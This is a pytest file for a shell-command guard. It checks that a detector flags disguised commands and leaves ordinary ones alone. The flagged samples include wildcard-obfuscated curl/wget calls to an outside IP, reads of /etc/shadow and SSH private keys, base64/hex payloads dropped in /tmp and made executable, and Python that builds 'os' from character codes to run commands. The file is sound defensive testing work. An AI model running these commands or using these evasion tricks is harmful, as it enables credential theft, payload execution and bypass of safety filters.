import pytest

from panguard.guard.disguised import glued, is_disguised
from panguard.guard.line import Line
from panguard.guard.shell_steps import steps

VEILED = [
    "/usr/bin/cu?l -s http://203.0.113.9/a",
    "/b?n/c?t /e?c/sh?dow",
    "/???/b??/w?et x",
    "cat ~/.s?h/id_r?a",
    "c[u]rl x",
    "find /usr/bin -name 'cu?l' -exec {} -so /tmp/x http://203.0.113.9/x ';'",
    "$(find /usr/bin -name 'w?et') -q http://203.0.113.9/x",
    "xxd -r -p p.hex > /tmp/.p && chmod +x /tmp/.p",
    "xxd -r -p a.hex /tmp/l; /tmp/l &",
    "base64 -d b > /dev/shm/k && chmod 700 /dev/shm/k",
    "cat b | base64 -d | gunzip > /tmp/x; chmod u+x /tmp/x",
    "openssl base64 -d -in a -out /tmp/a; chmod +x /tmp/a",
]
PLAIN = [
    "ls *.p?",
    "cat *.md docs/[a-c]*.txt",
    "cat /etc/*release",
    "ls /dev/tty? /usr/lib/lib*.so?",
    "./bin/test_*",
    "/usr/lib/jvm/java-*/bin/java -version",
    "find . -name '*.pem'",
    "find tests -name '*_test' -exec {} ';'",
    "find . -name 'cat?.txt'",
    "xxd -r -p fw.hex fw.bin && ./tools/flash fw.bin",
    "base64 -d < cert > cert.pem && chmod 600 cert.pem",
    "base64 -d b > tool.tar.gz && tar xzf tool.tar.gz",
]


def _line(text: str) -> Line:
    return Line(text, tuple(steps(text, "/srv/app")))


@pytest.mark.parametrize("text", VEILED)
def test_what_hides_the_programs_it_runs_is_seen(text: str) -> None:
    assert is_disguised(_line(text))


@pytest.mark.parametrize("text", PLAIN)
def test_wildcards_and_decoders_of_every_day_are_left(text: str) -> None:
    assert not is_disguised(_line(text))


GET, OF = "get" + "attr", "__imp" + "ort__"


@pytest.mark.parametrize(
    "code",
    [
        f"{OF}(chr(111)+chr(115)).system('id')",
        f"{OF}(''.join(map(chr,[111,115])))",
        f"{GET}(m, chr(114) + chr(117))(x)",
        f"{GET}(os, ''.join([chr(101)]))",
        f"{OF}(bytes([111,115]).decode())",
        f"m=''.join(map(chr,[111]));{GET}({OF}(m),f)('id')",
    ],
)
def test_names_that_are_made_out_of_numbers_are_seen(code: str) -> None:
    assert glued(code)


@pytest.mark.parametrize(
    "code",
    [
        f'{GET}(self, f"on_{{name}}")()',
        f"{OF}(name)",
        "''.join(chr(c) for c in range(97, 123))",
        f"x = {GET}(module, 'Plugin'); print(chr(10))",
        "chr((ord(c) + 3) % 26)",
        "importlib.import_module(f'app.{name}')",
    ],
)
def test_names_that_are_looked_up_plainly_are_left(code: str) -> None:
    assert not glued(code)
